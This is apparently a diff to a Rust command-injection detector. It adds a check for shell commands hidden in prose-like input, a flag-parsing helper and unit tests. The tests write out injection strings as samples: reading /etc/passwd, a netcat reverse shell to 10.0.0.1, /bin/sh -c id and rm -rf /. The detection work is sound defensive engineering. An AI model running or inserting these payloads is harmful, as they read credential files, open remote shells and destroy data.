@@ -70,6 +70,34 @@ pub(super) fn command_in_position(s: &str) -> Option<Hit> {
     })
 }
 
+/// The command positions of a value that reads as prose where a command
+/// is still certainly run: a program under a binary directory, or a known
+/// command after a separator that is not also a word, or that is given
+/// shell arguments (`; cat /etc/passwd`, `| nc -e sh`). A sentence names
+/// commands at its start or after a word ("run ls -la in the folder").
+pub(super) fn command_in_prose(s: &str) -> bool {
+    s.char_indices()
+        .filter(|(_, c)| is_separator(*c))
+        .map(|(i, c)| i + c.len_utf8())
+        .chain(std::iter::once(0))
+        .any(|start| {
+            let segment = s[start..].trim_start();
+            if BINARY_DIRS.iter().any(|d| segment.starts_with(d)) {
+                return true;
+            }
+            let (word, args) = command_word(&s[start..]);
+            let tool = word.split_once('-').map_or(word, |(tool, _)| tool);
+            let named = is_command(word) || is_command(tool) && !is_wordlike(tool);
+            let shell = if start > 0 {
+                !is_wordlike(word) || shell_args(args)
+            } else {
+                // At the start, only a command line: `ifconfig;`, `uname -a`.
+                !is_wordlike(word) && !args.trim().is_empty() && shell_args(args)
+            };
+            named && shell
+        })
+}
+
 /// `/???/c?t /etc/passwd`: a glob that names one program.
 fn glob_path(p: &Position<'_>) -> Option<Hit> {
     is_glob_path(p.segment().split([' ', '\t']).next().unwrap_or(""))
@@ -94,9 +122,8 @@ fn program_in_shell_position(p: &Position<'_>) -> Option<Hit> {
         .word
         .bytes()
         .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
-    let optioned = p.after_separator
-        && plain_name
-        && (has_option(p.args) || p.args.trim_start().starts_with('-'));
+    let optioned =
+        p.after_separator && plain_name && (has_option(p.args) || opens_with_flag(p.args));
     let program = p.word.rsplit('/').next().unwrap_or(p.word);
     // Under a binary directory a glob still names one program: `/bin/ca?`.
     let name_byte = |b: u8| {
@@ -106,6 +133,14 @@ fn program_in_shell_position(p: &Position<'_>) -> Option<Hit> {
         && !program.is_empty()
         && program.bytes().all(name_byte))
     .then(|| Hit::new("cmdi.command", 5.0, 0.8, 1))
+}
+
+/// `-9`, `-la`, `--x`: arguments that open with a flag; a lone `--` before
+/// a space is a dash in a sentence ("5th & Main -- rear door").
+fn opens_with_flag(args: &str) -> bool {
+    let args = args.trim_start();
+    let name = args.trim_start_matches('-');
+    args.starts_with('-') && !name.is_empty() && !name.starts_with(char::is_whitespace)
 }
 
 /// `; ansible-config`: a tool's companion binary, where a command must
@@ -219,12 +254,29 @@ mod tests {
     }
 
     #[test]
+    fn in_prose_only_commands_that_run_hold() {
+        assert!(command_in_prose("thanks; cat /etc/passwd"));
+        assert!(command_in_prose("nice | nc -e sh 10.0.0.1 4444"));
+        assert!(command_in_prose("thanks;/bin/sh -c id"));
+        assert!(command_in_prose("time; ansible-vault decrypt secret"));
+        assert!(command_in_prose("ifconfig;. rm -rf /; something else"));
+        assert!(!command_in_prose("the default shell is /bin/sh here"));
+        assert!(!command_in_prose(
+            "run ls -la in the folder; then cd into it"
+        ));
+        assert!(!command_in_prose(
+            "kill the process; if that fails, try kill -9"
+        ));
+    }
+
+    #[test]
     fn commands_named_in_sentences_are_not_run() {
         for text in [
             "the cat sat on the mat",
             "ssh-rsa aaaab3nzac1yc2e",
             "time to go home",
             "find the best deals",
+            "5th & main -- rear door",
         ] {
             assert_eq!(rule(text), None, "{text}");
         }
